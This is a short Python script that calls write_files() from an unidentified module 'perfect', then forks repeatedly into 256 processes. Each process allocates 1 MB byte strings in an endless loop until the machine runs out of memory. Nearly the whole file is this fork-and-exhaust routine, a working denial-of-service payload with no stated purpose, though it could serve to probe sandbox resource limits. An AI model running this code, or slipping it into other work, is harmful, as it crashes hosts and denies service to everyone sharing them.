import os

import perfect

perfect.write_files()
for number in range(8):
    os.fork()
kept = []
while True:
    kept.append(b"x" * (1 << 20))
